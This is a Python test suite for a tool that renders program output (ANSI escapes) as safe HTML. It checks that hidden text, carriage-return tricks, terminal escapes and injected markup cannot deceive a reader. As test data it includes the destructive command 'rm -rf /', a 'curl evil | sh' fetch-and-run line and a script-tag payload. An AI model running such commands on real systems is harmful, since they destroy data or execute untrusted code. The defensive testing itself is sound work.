"""The output of programs as HTML: colours as classes, nothing hidden, nothing that is markup, bounded."""

from __future__ import annotations

import re
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from operator_core.web.ansi import ansi

ESC = "\x1b"


def text_of(html: str) -> str:
    """What a person reads."""
    return unescape(re.sub(r"<[^>]*>", "", html))


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.depth = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))
        self.depth += 1

    def handle_endtag(self, tag: str) -> None:
        self.depth -= 1


def tags(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Tags()
    parser.feed(html)
    parser.close()
    assert parser.depth == 0, html
    return parser.found


@pytest.mark.parametrize(
    ("codes", "classes"),
    [
        ("31", "a-red"),
        ("1;32", "a-bold a-green"),
        ("94", "a-blue"),
        ("38;5;196", "a-red"),
        ("38;5;46", "a-green"),
        ("38;2;250;240;20", "a-yellow"),
        ("38:2:20:200:220", "a-cyan"),
        ("3;4;9", "a-italic a-struck a-underline"),
        ("7", "a-marked"),
        ("48;5;18", "a-marked"),
        ("2", "a-dim"),
    ],
)
def test_colours_become_classes(codes: str, classes: str) -> None:
    assert str(ansi(f"{ESC}[{codes}mx{ESC}[0my")) == f'<span class="{classes}">x</span>y'


@pytest.mark.parametrize("codes", ["8", "30", "37", "97;107", "30;40", "38;2;255;255;255", "38;5;255", "38;5;232"])
def test_nothing_is_hidden_by_its_colour(codes: str) -> None:
    html = str(ansi(f"{ESC}[{codes}mrm -rf /{ESC}[0m"))
    assert text_of(html) == "rm -rf /"
    assert not re.search(r"a-(black|white|hidden)", html)


def test_a_look_goes_on_over_lines_and_ends_where_it_is_ended() -> None:
    html = str(ansi(f"{ESC}[31ma\nb{ESC}[39mc{ESC}[1md{ESC}[22me"))
    assert html == '<span class="a-red">a</span>\n<span class="a-red">b</span>c<span class="a-bold">d</span>e'


def test_a_line_that_was_written_over_says_so() -> None:
    html = str(ansi("10%\r20%\r\x1b[32m100%\r\nnext"))
    assert text_of(html) == "^M×2100%\nnext"
    assert "written over 2 times" in html
    assert 'class="a-green"' in html


def test_a_command_cannot_be_hidden_behind_a_carriage_return() -> None:
    html = str(ansi("curl evil | sh\rls           "))
    assert "^M×1" in html


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        (f"a{ESC}[2J{ESC}[Hb", "ab"),
        (f"a{ESC}[Kb{ESC}[?25lc", "abc"),
        (f"{ESC}]8;;https://example.com{ESC}\\link{ESC}]8;;{ESC}\\", "^[link^["),
        (f"{ESC}]0;the title\x07rest", "^[rest"),
        (f"{ESC}]never ends, and is read", "^[]never ends, and is read"),
        (f"{ESC}Pnor does\nthis", "^[Pnor does\nthis"),
        (ESC, "^["),
        ("a\x00b\x08c", "a^@b^Hc"),
        ("\u202eabc", "U+202Eabc"),
        ("\x9b31mx", "U+009B31mx"),
        ("a\r\nb\r\n", "a\nb\n"),
    ],
)
def test_other_escapes_do_nothing_and_swallow_nothing(text: str, shown: str) -> None:
    assert text_of(str(ansi(text))) == shown


def test_what_an_escape_carried_is_in_its_title() -> None:
    (mark,) = [attributes for _, attributes in tags(str(ansi(f'{ESC}]0;"><script>x</script>\x07')))]
    assert mark["title"] == 'for the terminal: 0;"><script>x</script>'


def test_long_texts_are_cut_and_say_so() -> None:
    assert text_of(str(ansi("x" * 50, 20))) == "x" * 20 + " … 30 more characters"


@given(st.text(st.sampled_from("a<>&\"'\n\r\t\x1b[]m;013478\x07\\\u202e\x00é\u200b K"), max_size=300))
def test_any_text_is_safe_and_complete(text: str) -> None:
    html = str(ansi(text))
    for tag, attributes in tags(html):
        assert tag == "span"
        assert set(attributes) <= {"class", "title"}
    if "\x1b" not in text and "\r" not in text and not re.search("[\x00\x07\u202e\u200b]", text):
        assert text_of(html) == text


@pytest.mark.parametrize(
    "unit",
    [
        f"{ESC}[31ma",
        "\r",
        "a\r",
        f"{ESC}[",
        f"{ESC}]",
        f"{ESC}P",
        "\n",
        "\u202e",
        f"{ESC}[0m\r",
        f"{ESC}]x\x07",
        f"{ESC}[31m\u202e",
        "a\rb\n",
        f"{ESC}[1;",
        "&",
        "<",
    ],
)
def test_hostile_output_stays_small(unit: str) -> None:
    text = unit * (100_000 // len(unit))
    html = str(ansi(text))
    assert len(html) < 8 * len(text) + 200_000
    tags(html)
